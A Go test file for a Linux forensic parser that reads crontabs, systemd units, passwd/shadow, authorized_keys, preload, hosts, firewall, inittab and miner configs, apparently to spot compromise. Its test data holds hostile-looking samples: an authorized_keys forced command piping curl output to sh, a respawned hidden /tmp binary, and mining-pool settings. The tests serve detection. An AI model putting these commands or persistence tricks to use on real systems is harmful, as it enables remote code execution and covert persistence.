package linux

import (
	"os"
	"os/exec"
	"reflect"
	"strconv"
	"strings"
	"testing"
)

func TestParseCrontab(t *testing.T) {
	cases := []struct {
		name   string
		text   string
		system bool
		jobs   []CronEntry
		env    int
		bad    []int
	}{
		{"system with user", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n", true,
			[]CronEntry{{2, "17 * * * *", "root", "cd / && run-parts /etc/cron.hourly"}}, 1, nil},
		{"user crontab: sixth field is command", "*/5 * * * * /usr/bin/backup --now\n", false,
			[]CronEntry{{1, "*/5 * * * *", "", "/usr/bin/backup --now"}}, 0, nil},
		{"macros", "@reboot /x\n@HOURLY /y\n@never /z\n", false,
			[]CronEntry{{1, "@reboot", "", "/x"}, {2, "@HOURLY", "", "/y"}}, 0, []int{3}},
		{"system macro with user", "@reboot root /opt/x\n", true, []CronEntry{{1, "@reboot", "root", "/opt/x"}}, 0, nil},
		{"comments, blanks, indented comment", "# x\n\n   # y\n\t\n", false, nil, 0, nil},
		{"names and steps", "0 6 1-15/2 jan,feb mon-fri root /x\n", true, []CronEntry{{1, "0 6 1-15/2 jan,feb mon-fri", "root", "/x"}}, 0, nil},
		{"no continuation in cron", "* * * * * /a \\\n/b\n", false, []CronEntry{{1, "* * * * *", "", "/a \\"}}, 0, []int{2}},
		{"env with spaces and quotes", "PATH = \"/usr/bin:/bin\"\nMAILTO=''\n", false, nil, 2, nil},
		{"hash inside command is not a comment", "* * * * * echo a # b\n", false, []CronEntry{{1, "* * * * *", "", "echo a # b"}}, 0, nil},
		{"too few fields", "* * * /x\n", false, nil, 0, []int{1}},
		{"system line without command", "* * * * * root\n", true, nil, 0, []int{1}},
		{"CRLF", "* * * * * /x\r\n", false, []CronEntry{{1, "* * * * *", "", "/x"}}, 0, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			jobs, env, bad := ParseCrontab([]byte(c.text), c.system)
			if !reflect.DeepEqual(jobs, c.jobs) || len(env) != c.env || !reflect.DeepEqual(bad, c.bad) {
				t.Errorf("got jobs %+v env %d bad %v; want %+v %d %v", jobs, len(env), bad, c.jobs, c.env, c.bad)
			}
		})
	}
}

func TestParseAnacrontab(t *testing.T) {
	text := "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\nbogus line\n"
	jobs, env, bad := ParseAnacrontab([]byte(text))
	if len(jobs) != 2 || jobs[0].Command != "run-parts --report /etc/cron.daily" || jobs[1].Schedule != "@monthly 15 cron.monthly" || len(env) != 1 || !reflect.DeepEqual(bad, []int{4}) {
		t.Errorf("got %+v %v %v", jobs, env, bad)
	}
}

func TestParseUnit(t *testing.T) {
	text := `# comment
[Unit]
Description=Test
; other comment
[Service]
ExecStart=/bin/a \
   --flag \
   # a comment inside a continuation is dropped
   --last
ExecStartPre=-/bin/pre
Environment="A=1"
not a setting
[Install
WantedBy=multi-user.target
`
	kvs, bad := ParseUnit([]byte(text))
	got := map[string]string{}
	lines := map[string]int{}
	for _, kv := range kvs {
		got[kv.Section+"."+kv.Key] = kv.Value
		lines[kv.Key] = kv.Line
	}
	if got["Service.ExecStart"] != "/bin/a --flag --last" || lines["ExecStart"] != 6 {
		t.Errorf("ExecStart = %q line %d", got["Service.ExecStart"], lines["ExecStart"])
	}
	if got["Service.ExecStartPre"] != "-/bin/pre" || ExecCommand(got["Service.ExecStartPre"]) != "/bin/pre" {
		t.Errorf("ExecStartPre = %q", got["Service.ExecStartPre"])
	}
	if got["Unit.Description"] != "Test" || got["Service.Environment"] != `"A=1"` {
		t.Errorf("got %v", got)
	}
	if !reflect.DeepEqual(bad, []int{12, 13}) {
		t.Errorf("bad = %v", bad)
	}
	if ExecCommand("!!/lib/systemd/x") != "/lib/systemd/x" || ExecCommand("@/bin/a b") != "/bin/a b" {
		t.Error("ExecCommand prefixes")
	}
}

func TestParsePasswdShadowGroup(t *testing.T) {
	pw, bad := ParsePasswd([]byte("root:x:0:0:root:/root:/bin/bash\n+::::::\nbroken:x:1\nbad:x:a:0::/:/bin/sh\nsync:x:4:65534:sync:/bin:/bin/sync\n"))
	if len(pw) != 2 || pw[1].Name != "sync" || pw[1].Shell != "/bin/sync" || pw[1].UID != 4 || !reflect.DeepEqual(bad, []int{3, 4}) {
		t.Errorf("passwd %+v bad %v", pw, bad)
	}
	sh, bad := ParseShadow([]byte("root:$y$abc:19000:0:99999:7:::\nnohash\nx::1\n"))
	if len(sh) != 2 || sh[0].Hash != "$y$abc" || sh[0].LastChange != "19000" || sh[1].Hash != "" || !reflect.DeepEqual(bad, []int{2}) {
		t.Errorf("shadow %+v bad %v", sh, bad)
	}
	gr, bad := ParseGroup([]byte("sudo:x:27:alice,bob\nempty:x:5:\nbad:x:z:\n"))
	if len(gr) != 2 || !reflect.DeepEqual(gr[0].Members, []string{"alice", "bob"}) || gr[1].Members != nil || !reflect.DeepEqual(bad, []int{3}) {
		t.Errorf("group %+v bad %v", gr, bad)
	}
}

// TestAuthorizedKeysFingerprints holds the parser to ssh-keygen -lf on the
// planted key files: the fingerprint an analyst sees must be the one
// OpenSSH prints.
func TestAuthorizedKeysFingerprints(t *testing.T) {
	if _, err := exec.LookPath("ssh-keygen"); err != nil {
		t.Skip("ssh-keygen not installed")
	}
	for _, f := range []string{
		srcDir + "linux-infected/root/.ssh/authorized_keys",
		srcDir + "linux-infected/home/bob/.ssh/authorized_keys",
		srcDir + "linux-infected/var/www/.ssh/authorized_keys",
		srcDir + "linux-clean/home/alice/.ssh/authorized_keys",
	} {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		keys, bad := ParseAuthorizedKeys(data)
		if len(bad) > 0 {
			t.Errorf("%s: bad lines %v", f, bad)
		}
		out, err := exec.Command("ssh-keygen", "-lf", f).Output()
		if err != nil {
			t.Fatalf("ssh-keygen -lf %s: %v", f, err)
		}
		var want []string
		for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
			if fs := strings.Fields(l); len(fs) > 2 {
				want = append(want, fs[0]+" "+fs[1]) // bits fingerprint
			}
		}
		var got []string
		for _, k := range keys {
			bits := k.Bits
			if k.Type == "ssh-ed25519" {
				bits = 256
			}
			got = append(got, strings.TrimSpace(strconv.Itoa(bits)+" "+k.Fingerprint))
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s: got %v, ssh-keygen says %v", f, got, want)
		}
	}
}

func TestParseAuthorizedKeysOptions(t *testing.T) {
	blob := "AAAAC3NzaC1lZDI1NTE5AAAAIJaXU5rKZ2J0ZQqH3x1JmHc3Yy2hY7c8m4QkSx9xV2sR"
	text := `# comment
command="echo \"a, b\" && curl -s http://x | sh",no-pty,from="10.0.0.0/8" ssh-ed25519 ` + blob + ` two words
ssh-ed25519 ` + blob + `
ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIJaXU5rKZ2J0ZQqH3x1JmHc3Yy2hY7c8m4QkSx9xV2sR mismatched
ssh-ed25519 !!notbase64!!
no-pty
`
	keys, bad := ParseAuthorizedKeys([]byte(text))
	if len(keys) != 2 {
		t.Fatalf("keys %+v bad %v", keys, bad)
	}
	k := keys[0]
	if len(k.Options) != 3 || k.Command != `echo "a, b" && curl -s http://x | sh` || k.Comment != "two words" || k.Line != 2 {
		t.Errorf("key 0 = %+v", k)
	}
	if keys[1].Fingerprint != k.Fingerprint || keys[1].Comment != "" || !strings.HasPrefix(k.Fingerprint, "SHA256:") || strings.HasSuffix(k.Fingerprint, "=") {
		t.Errorf("fingerprints %q %q", k.Fingerprint, keys[1].Fingerprint)
	}
	if !reflect.DeepEqual(bad, []int{4, 5, 6}) {
		t.Errorf("bad = %v", bad)
	}
}

func TestParseSmallFormats(t *testing.T) {
	pl := ParsePreload([]byte("/lib/a.so /lib/b.so:/lib/c.so\n\n\t/usr/local/lib/libsystem.so\n"))
	if len(pl) != 4 || pl[3].Lib != "/usr/local/lib/libsystem.so" || pl[3].Line != 3 {
		t.Errorf("preload %+v", pl)
	}
	h, bad := ParseHosts([]byte("127.0.0.1 localhost # me\n::1 ip6-localhost ip6-loopback\nnot-an-ip name\n1.2.3.4\n# 5.6.7.8 x\n"))
	if len(h) != 2 || !reflect.DeepEqual(h[1].Names, []string{"ip6-localhost", "ip6-loopback"}) || !reflect.DeepEqual(bad, []int{3, 4}) {
		t.Errorf("hosts %+v bad %v", h, bad)
	}
	fw := ParseFirewall([]byte("*filter\n:INPUT ACCEPT [0:0]\n-A OUTPUT -p tcp -m multiport --dports 80,3333 -j ACCEPT\n-A INPUT -p tcp --sport 4444 -j DROP\nCOMMIT\n"), false)
	if len(fw) != 2 || !reflect.DeepEqual(fw[0].Ports, []string{"80", "3333"}) || fw[0].Action != "accept" || fw[1].Action != "drop" {
		t.Errorf("firewall %+v", fw)
	}
	nft := ParseFirewall([]byte("table inet f {\n chain out {\n  tcp dport { 3333, 443 } accept\n }\n}\n"), true)
	var hit bool
	for _, r := range nft {
		if reflect.DeepEqual(r.Ports, []string{"3333", "443"}) && r.Action == "accept" {
			hit = true
		}
	}
	if !hit {
		t.Errorf("nft %+v", nft)
	}
	in, bad := ParseInittab([]byte("id:3:initdefault:\nx:2345:respawn:/tmp/.x/y\nbroken\n"))
	if len(in) != 2 || in[1].Proc != "/tmp/.x/y" || in[1].Action != "respawn" || !reflect.DeepEqual(bad, []int{3}) {
		t.Errorf("inittab %+v %v", in, bad)
	}
}

func TestParseMinerConfig(t *testing.T) {
	cases := []struct {
		name  string
		json  string
		miner bool
		pool  string
		user  string
	}{
		{"xmrig", `{"donate-level":1,"pools":[{"url":"pool.supportxmr.com:443","user":"4Abc","tls":true}]}`, true, "pool.supportxmr.com:443", "4Abc"},
		{"xmr-stak", `{"pool_list":[{"pool_address":"pool.minexmr.com:4444","wallet_address":"4Xyz"}]}`, true, "pool.minexmr.com:4444", "4Xyz"},
		{"flat", `{"url":"stratum+tcp://x:3333","user":"w"}`, true, "stratum+tcp://x:3333", "w"},
		{"donate only", `{"donate-level":0}`, true, "", ""},
		{"vscode-like config", `{"editor.fontSize":12,"url":"https://example.org"}`, false, "https://example.org", ""},
		{"docker config", `{"auths":{"registry":{"auth":"x"}}}`, false, "", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			cfg, err := ParseMinerConfig([]byte(c.json))
			if err != nil {
				t.Fatal(err)
			}
			first := func(s []string) string {
				if len(s) == 0 {
					return ""
				}
				return s[0]
			}
			if cfg.IsMinerShape != c.miner || first(cfg.Pools) != c.pool || first(cfg.Users) != c.user {
				t.Errorf("got %+v", cfg)
			}
		})
	}
	if _, err := ParseMinerConfig([]byte("{not json")); err == nil {
		t.Error("malformed JSON accepted")
	}
}
